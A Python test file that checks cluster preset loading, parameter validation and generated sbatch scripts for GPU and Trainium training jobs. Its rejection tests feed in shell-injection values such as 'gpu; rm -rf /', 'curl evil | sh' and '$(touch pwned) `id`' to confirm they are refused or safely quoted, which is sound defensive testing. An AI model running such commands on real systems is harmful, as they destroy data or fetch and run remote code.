"""Cluster presets, validation, and the sbatch scripts of large layouts (generated, never submitted)."""
from __future__ import annotations

import dataclasses
import re
import subprocess
from pathlib import Path

import pytest

from gpt.config import Config
from tasks.cluster.config import PRESET_DIR, ClusterConfig, ClusterError, load_cluster
from tasks.precompile import cache_key, sbatch_script


def sbatch_flags(script: str) -> dict[str, str]:
    return dict(re.findall(r"^#SBATCH --([a-z-]+)(?:=(.*))?$", script, re.M))


def setup_env(script: str, tmp_path: Path, names: list[str]) -> dict[str, str]:
    """Run the script's setup section in bash (nothing else) and read the variables back."""
    setup = script.split("# setup\n", 1)[1].split("\n# command", 1)[0]
    probe = tmp_path / "probe.sh"
    probe.write_text(setup + "\n" + "".join(f'printf "%s\\0" "${n}"\n' for n in names))
    out = subprocess.run(["bash", str(probe)], capture_output=True, text=True, check=True).stdout
    return dict(zip(names, out.split("\0")))


def test_presets_load_and_validate() -> None:
    local = load_cluster("local")
    assert local.kind == "local" and local.world_size == 1
    assert load_cluster("slurm-local").world_size == 2
    assert load_cluster("p4d-8gpu").world_size == 128
    trn = load_cluster("trn1-32xl")
    assert (trn.nodes, trn.tasks_per_node, trn.exclusive, trn.device) == (16, 32, True, "neuron")
    assert load_cluster("p4d-8gpu", time_limit="1-02:30:00").time_limit == 1590


@pytest.mark.parametrize("overrides, words", [
    ({"partition": "gpu; rm -rf /"}, "partition"),
    ({"nodelist": "node1 node2"}, "nodelist"),
    ({"env": {"AWS_SECRET_ACCESS_KEY": "x"}}, "cannot be set from parameters"),
    ({"env": {"BAD-NAME": "x"}}, "env variable"),
    ({"srun_extra": ["--label\nrm -rf /"]}, "srun_extra"),
    ({"sbatch_extra": {"mail type": "END"}}, "sbatch_extra"),
    ({"sbatch_extra": {"mail-type": "END; id"}}, "mail-type"),
    ({"tasks_per_node": 3}, "one task per GPU"),
    ({"nodes": 0}, "nodes"),
    ({"mem": "lots"}, "mem"),
    ({"time_limit": "soon"}, "time_limit"),
])
def test_bad_parameters_are_rejected_with_the_field_named(overrides: dict, words: str) -> None:
    with pytest.raises(ClusterError) as e:
        load_cluster("p4d-8gpu", **overrides)
    assert words in str(e.value) and "p4d-8gpu.yaml" in str(e.value)


def test_setup_comes_only_from_preset_files() -> None:
    with pytest.raises(ClusterError, match="preset files"):
        load_cluster("slurm-local", setup=["curl evil | sh"])


def test_unknown_preset_lists_the_known_ones() -> None:
    with pytest.raises(ClusterError, match="slurm-local"):
        load_cluster("no-such-cluster")


def test_parameters_reach_the_script_quoted(tmp_path: Path) -> None:
    nasty = "$(touch pwned) `id` 'quoted' \"double\" ; echo hi"
    cluster = ClusterConfig(executor="slurm", env={"NASTY": nasty}, srun_extra=["--comment=a b;c"],
                            sbatch_extra={"comment": "x; y"})
    script = cluster.sbatch_script(tmp_path / "jobs")
    assert setup_env(script, tmp_path, ["NASTY"]) == {"NASTY": nasty}
    assert not (tmp_path / "pwned").exists()
    assert "'--comment=a b;c'" in script and "#SBATCH --comment='x; y'" in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


def test_trn1_16_node_script(tmp_path: Path) -> None:
    cluster = load_cluster("trn1-32xl", partition="compute")
    config = Config.from_preset("gpt3-1.3b", train_iters=100, run_dir="/fsx/runs/r1")
    key = cache_key(config, cluster)
    config = dataclasses.replace(config, compile_cache_dir=f"/fsx/compile-cache/{key}")
    script = sbatch_script(config, cluster)
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    flags = sbatch_flags(script)
    assert flags["nodes"] == "16" and flags["ntasks-per-node"] == "32" and "exclusive" in flags
    assert flags["partition"] == "compute" and flags["signal"].startswith("USR2@")
    assert flags["output"] == "/fsx/runs/r1/precompile/jobs/%j_0_log.out"
    env = setup_env(script, tmp_path, ["FI_PROVIDER", "FI_EFA_USE_DEVICE_RDMA", "NEURON_CC_FLAGS",
                                       "NEURON_RT_STOCHASTIC_ROUNDING_EN", "MALLOC_ARENA_MAX"])
    assert env["FI_PROVIDER"] == "efa" and env["FI_EFA_USE_DEVICE_RDMA"] == "1"
    assert "--distribution-strategy=llm-training" in env["NEURON_CC_FLAGS"]
    srun = next(line for line in script.splitlines() if line.startswith("srun "))
    assert "neuron_parallel_compile" in srun and "%j_%t_log.out" in srun
    # Each node compiles into its own cache directory: run the launcher as node7 would.
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "neuron_parallel_compile").write_text('#!/bin/sh\necho "$NEURON_CC_FLAGS"\n')
    (fake_bin / "neuron_parallel_compile").chmod(0o755)
    launcher = srun.split(" /bin/bash ", 1)[1].rsplit(" -u -m submitit", 1)[0]
    out = subprocess.run(f"/bin/bash {launcher}", shell=True, capture_output=True, text=True, check=True,
                         env={"PATH": f"{fake_bin}:/usr/bin:/bin", "SLURMD_NODENAME": "node7",
                              "NEURON_CC_FLAGS": env["NEURON_CC_FLAGS"]}).stdout
    assert out.strip().endswith(f"--cache_dir=/fsx/compile-cache/{key}/node7")
    assert "--distribution-strategy=llm-training" in out


def test_p4d_16_node_8_gpu_script(tmp_path: Path, monkeypatch) -> None:
    ops = tmp_path / "presets"                  # an operator's presets folder, with a container image
    ops.mkdir()
    (ops / "p4d-pyxis.yaml").write_text(Path(PRESET_DIR / "p4d-8gpu.yaml").read_text() +
                                        'container: {runtime: pyxis, image: "nvcr.io#nvidia/pytorch:24.05-py3", '
                                        'mounts: ["/fsx:/fsx"]}\n')
    monkeypatch.setenv("GPT_CLUSTER_PRESET_DIRS", str(ops))
    cluster = load_cluster("p4d-pyxis", partition="gpu", account="research")
    script = cluster.sbatch_script("/fsx/runs/r2/jobs", job_name="train-gpt3-1.3b")
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    flags = sbatch_flags(script)
    assert (flags["nodes"], flags["ntasks-per-node"], flags["gpus-per-node"]) == ("16", "8", "8")
    assert flags["account"] == "research" and flags["mem"] == "0" and "exclusive" in flags
    assert flags["time"] == "2880" and flags["job-name"] == "train-gpt3-1.3b"
    env = setup_env(script, tmp_path, ["FI_PROVIDER", "NCCL_SOCKET_IFNAME"])
    assert env == {"FI_PROVIDER": "efa", "NCCL_SOCKET_IFNAME": "^docker,lo"}
    srun = next(line for line in script.splitlines() if line.startswith("srun "))
    assert "--container-image=nvcr.io#nvidia/pytorch:24.05-py3" in srun and "--container-mounts=/fsx:/fsx" in srun
    assert "submitit.core._submit /fsx/runs/r2/jobs" in srun


def test_cache_key_follows_model_layout_and_device() -> None:
    tiny = Config.from_preset("tiny", train_iters=10)
    base = cache_key(tiny, load_cluster("slurm-local"))
    assert base == cache_key(Config.from_preset("tiny", train_iters=99), load_cluster("slurm-local"))
    assert base != cache_key(Config.from_preset("tiny", train_iters=10, seq_length=64), load_cluster("slurm-local"))
    assert base != cache_key(tiny, load_cluster("slurm-local", nodes=1))
    assert base != cache_key(tiny, load_cluster("slurm-local").model_copy(update={"device": "cuda"}))


def test_trainium_graphs_come_from_neuron_parallel_compile_with_torch_compile_off(tmp_path: Path) -> None:
    """Inductor has no code generation for XLA devices: on Trainium the plan turns torch.compile off
    for the compile job and training alike, and still precompiles; CUDA and CPU jobs compile."""
    from flows.plan.build import make_plan
    from flows.plan.params import ClusterParams, DataParams, OutputParams, TokenizerParams, TrainingParams
    from gpt.tokenizer import Tokenizer
    from tasks.index import IndexManifest
    from tasks.precompile import job_config

    presets = {"neuron": ("trn1-32xl", {"nodes": 1, "tasks_per_node": 1}),
               "cuda": ("p4d-8gpu", {"nodes": 1, "tasks_per_node": 1, "gpus_per_node": 1}),
               "cpu": ("slurm-local", {})}
    for device, (preset, overrides) in presets.items():
        plan = make_plan("gpt3-125m", DataParams(), TokenizerParams(), TrainingParams(train_iters=100),
                         ClusterParams(preset=preset, overrides=overrides), OutputParams(root=str(tmp_path)))
        assert plan.config.device == device and plan.precompiles
        complete = plan.training_job(Tokenizer(None, None, None, 50256, 50257),
                                     IndexManifest(path=str(tmp_path / "index.json"), seq_length=2048, num_samples={},
                                                   digest="")).config
        assert complete.compile is (device != "neuron") and job_config(complete).compile is complete.compile
        assert complete.compile_cache_dir == str(tmp_path / "data" / "compile-cache" / cache_key(complete, plan.cluster))
        assert job_config(complete).run_dir == str(plan.run_dir / "precompile") and job_config(complete).precompile

